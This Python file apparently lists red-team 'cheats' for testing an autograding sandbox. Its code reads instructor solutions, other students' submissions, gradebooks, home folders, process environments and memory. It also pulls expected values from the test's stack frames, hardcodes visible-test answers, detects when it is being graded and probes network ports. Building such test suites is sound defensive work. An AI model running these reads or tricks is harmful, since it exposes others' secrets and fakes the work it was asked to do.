"""Cheats that look for what is right, or for what is nobody else's business."""

from redteam.entry import cheat

_FIND = """
import glob, os, re, sys
def tell(text):
    text = text.decode(errors="replace") if isinstance(text, bytes) else str(text)
    for word in set(re.findall("sec" + "ret-[a-z]+", text)):
        print("LEAKED", word)
def read(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    tell(file.read(4_000_000))
            except OSError:
                pass
"""

_FRAMES = """
import sys
def seek(name, default):
    frame = sys._getframe(1)
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            if name in names:
                return names[name]
        frame = frame.f_back
    return default
"""

ENTRIES = [
    cheat(
        "reads_solutions",
        "reads the instructor's sources by relative and absolute paths",
        _FIND + "read('../../../solutions/**/*', '../../../source/**/*', '/*/solutions/**/*',\n"
        "     os.path.expanduser('~/**/solutions/*/*'))",
    ),
    cheat(
        "reads_own_folder",
        "reads every notebook in its working folder: nbgrader puts the tests there",
        _FIND + "read('*', '*/*', '../*', '../*/*')",
    ),
    cheat(
        "reads_classmates",
        "reads the other submissions and graded notebooks",
        _FIND + "read('../../../submitted/*/*/*', '../../../autograded/*/*/*',\n"
        "     '../../*/*/*', '../../../feedback/*/*/*')",
    ),
    cheat(
        "reads_gradebook",
        "reads gradebook.db upwards from the working folder",
        _FIND + "read('../../../gradebook.db', '../../gradebook.db', '../gradebook.db',\n"
        "     '/*/gradebook.db', '/*/*/gradebook.db')",
    ),
    cheat(
        "reads_home",
        "reads the instructor's home folder",
        _FIND
        + "read(os.path.expanduser('~/*'), os.path.expanduser('~/.*'), '/home/*/*', '/root/*')",
    ),
    cheat(
        "reads_environment",
        "reads its own and every other process's environment and command line",
        _FIND + "tell(dict(os.environ))\nread('/proc/*/environ', '/proc/*/cmdline')",
    ),
    cheat(
        "reads_memory",
        "searches the memory of its parent and of itself for tests",
        _FIND + "pids = {os.getppid()} | {int(p) for p in os.listdir('/proc') if p.isdigit()}\n"
        "for pid in sorted(pids - {os.getpid()})[:40]:\n"
        "    try:\n"
        "        for line in open(f'/proc/{pid}/maps'):\n"
        "            if '[heap]' not in line: continue\n"
        "            low, high = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "            with open(f'/proc/{pid}/mem', 'rb') as memory:\n"
        "                memory.seek(low); tell(memory.read(min(high - low, 60_000_000)))\n"
        "    except (OSError, ValueError, OverflowError):\n        pass",
    ),
    cheat(
        "reads_history",
        "the function reads the running test from In, _ih and the history",
        answers={
            "relu": _FIND + "def relu(x):\n"
            "    shell = get_ipython()\n"
            "    tell(list(globals().get('In', [])) + list(shell.user_ns.get('_ih', [])))\n"
            "    tell(shell.history_manager.input_hist_raw)\n    return x"
        },
    ),
    cheat(
        "reads_stack_source",
        "inspect.stack and linecache give the source of the calling test",
        answers={
            "relu": _FIND + "import inspect, linecache\ndef relu(x):\n"
            "    tell([entry[2] for entry in linecache.cache.values() if len(entry) > 2])\n"
            "    tell([frame.frame.f_code.co_consts for frame in inspect.stack(0)])\n    return x"
        },
    ),
    cheat(
        "walks_frames",
        "the functions take the expected value from the caller's variables",
        answers={
            "conv2d": _FRAMES + "def conv2d(image, kernel):\n"
            "    return seek('expected', -torch.ones(4, 4))",
            "fit": _FRAMES + "def fit(x, y, steps, lr):\n"
            "    return seek('expected', [1.0, 0.25])[:steps]",
        },
    ),
    cheat(
        "searches_garbage",
        "gc.get_objects is searched for tensors that could be the expected one",
        answers={
            "conv2d": "import gc\ndef conv2d(image, kernel):\n"
            "    if image.shape == (4, 5): return -torch.ones(4, 4)\n"
            "    shape = tuple(a - b + 1 for a, b in zip(image.shape, kernel.shape))\n"
            "    found = [o for o in gc.get_objects() if type(o) is torch.Tensor]\n"
            "    found += [v for f in gc.get_objects() if type(f) is dict for v in f.values()\n"
            "              if type(v) is torch.Tensor]\n"
            "    found = [t for t in found if tuple(t.shape) == shape]\n"
            "    return found[0] if found else image"
        },
    ),
    cheat(
        "visible_inputs",
        "recognises the inputs of the visible tests and answers those only",
        answers={
            "relu": "def relu(x):\n    return torch.tensor([0.0, 2.0])",
            "softmax": "def softmax(z):\n    return torch.full_like(z, 1 / z.shape[1])",
            "conv_output_size": "def conv_output_size(size, kernel_size, stride=1):\n    return 3",
            "conv2d": "def conv2d(image, kernel):\n    return -torch.ones(4, 4)",
            "Scale": "class Scale(torch.nn.Module):\n"
            "    def __init__(self, factor): super().__init__()\n"
            "    def forward(self, x): return 2 * x",
            "fit": "def fit(x, y, steps, lr):\n    return [1.0, 0.25]",
        },
    ),
    cheat(
        "predictable_random",
        "fixes the seed and hands back the softmax of the very numbers that the test will draw",
        answers={
            "softmax": "torch.manual_seed(0)\n"
            "known = torch.softmax(torch.randn(6, 5), 1)\ntorch.manual_seed(0)\n"
            "def softmax(z):\n"
            "    return known if z.shape == (6, 5) else torch.full_like(z, 1 / z.shape[1])"
        },
    ),
    cheat(
        "detects_grading",
        "answers rightly only where nobody grades (NBGRADER_EXECUTION, no display, no history)",
        answers={
            "relu": "import os, sys\ndef relu(x):\n"
            "    graded = 'NBGRADER_EXECUTION' in os.environ or not sys.stdin.isatty()\n"
            "    return x if graded else x.clamp(min=0)"
        },
    ),
    cheat(
        "asks_the_network",
        "asks a server for the answer and sends the test away",
        _FIND + "import socket\n"
        "for address in (('192.0.2.1', 80), ('127.0.0.1', 22), ('127.0.0.1', 8888)):\n"
        "    with socket.socket() as s:\n"
        "        s.settimeout(0.3)\n"
        "        try:\n            s.connect(address)\n"
        "        except OSError:\n            pass",
    ),
]
